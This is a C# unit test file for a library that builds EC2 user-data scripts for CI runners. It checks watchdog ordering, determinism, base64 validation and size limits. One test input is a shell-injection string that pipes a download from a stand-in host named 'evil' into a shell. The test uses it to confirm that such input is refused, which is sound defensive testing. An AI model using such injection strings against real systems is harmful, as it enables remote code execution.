using Builtiful.Compute.Ec2.Launching;
using Builtiful.Compute.Ec2.Options;
using Builtiful.Machines;
using Builtiful.Providers;

namespace Builtiful.Compute.Ec2.Tests;

public sealed class UserDataTests
{
    private static readonly DateTimeOffset Deadline = new(2030, 1, 2, 3, 4, 5, TimeSpan.Zero);

    [Fact]
    public void The_script_arms_the_watchdog_before_the_runner_and_powers_off_when_the_runner_exits()
    {
        var script = RunnerUserData.Compose(Request("QUJD+/9="), new RunnerBootstrapOptions());
        var lines = script.Split('\n');

        Assert.Equal("#!/bin/bash", lines[0]);
        Assert.Contains($"deadline={Deadline.ToUnixTimeSeconds()}", lines);
        var watchdog = Array.FindIndex(lines, l => l.StartsWith("shutdown -P \"+$minutes\"", StringComparison.Ordinal));
        var trap = Array.IndexOf(lines, "trap 'shutdown -P now' EXIT");
        var runner = Array.IndexOf(lines, "runuser -u 'runner' -- ./run.sh --jitconfig 'QUJD+/9='");
        Assert.True(watchdog > 0 && trap > watchdog && runner > trap, script);
        Assert.Contains("cd '/opt/actions-runner'", lines);
        Assert.DoesNotContain(lines, l => l.TrimStart().StartsWith("set -x", StringComparison.Ordinal) || l.Contains("set -o xtrace", StringComparison.Ordinal));
    }

    [Fact]
    public void The_same_request_always_yields_the_same_user_data()
    {
        var request = Request(Convert.ToBase64String(new byte[600]));

        Assert.Equal(RunnerUserData.Encode(request, new RunnerBootstrapOptions()), RunnerUserData.Encode(request, new RunnerBootstrapOptions()));
    }

    [Theory]
    [InlineData("abc'; curl evil | sh; '")]
    [InlineData("")]
    [InlineData("abc\ndef")]
    public void A_runner_config_that_is_not_base64_never_reaches_the_script(string config)
    {
        var refused = Assert.Throws<Ec2LaunchException>(() => RunnerUserData.Compose(Request(config), new RunnerBootstrapOptions()));

        Assert.Contains("not base64", refused.Message, StringComparison.Ordinal);
        Assert.True(config.Length == 0 || !refused.Message.Contains(config, StringComparison.Ordinal));
    }

    [Fact]
    public void User_data_at_the_limit_passes_and_one_byte_over_is_refused()
    {
        var overhead = RunnerUserData.Compose(Request("AAAA"), new RunnerBootstrapOptions()).Length - 4;
        var fits = new string('A', (RunnerUserData.MaxBytes - overhead) / 4 * 4);
        var tooBig = fits + "AAAA";

        RunnerUserData.Encode(Request(fits), new RunnerBootstrapOptions());
        var refused = Assert.Throws<Ec2LaunchException>(() => RunnerUserData.Encode(Request(tooBig), new RunnerBootstrapOptions()));
        Assert.Contains("16384-byte limit", refused.Message, StringComparison.Ordinal);
    }

    private static LaunchRequest Request(string jit) => new()
    {
        LeaseId = Guid.Parse("0f8fad5b-d9cb-469f-a165-70867728950e"),
        InstallationId = 1,
        JobId = 2,
        MachineType = new MachineType("builtiful-2vcpu-ubuntu-2404", 2, 8, CpuArchitecture.X64, "ubuntu-2404", new Dictionary<string, string>()),
        ClientToken = "0f8fad5bd9cb469fa16570867728950e-1",
        Runner = new RunnerConfig("builtiful-0f8fad5b", jit),
        ExpiresAt = Deadline,
    };
}
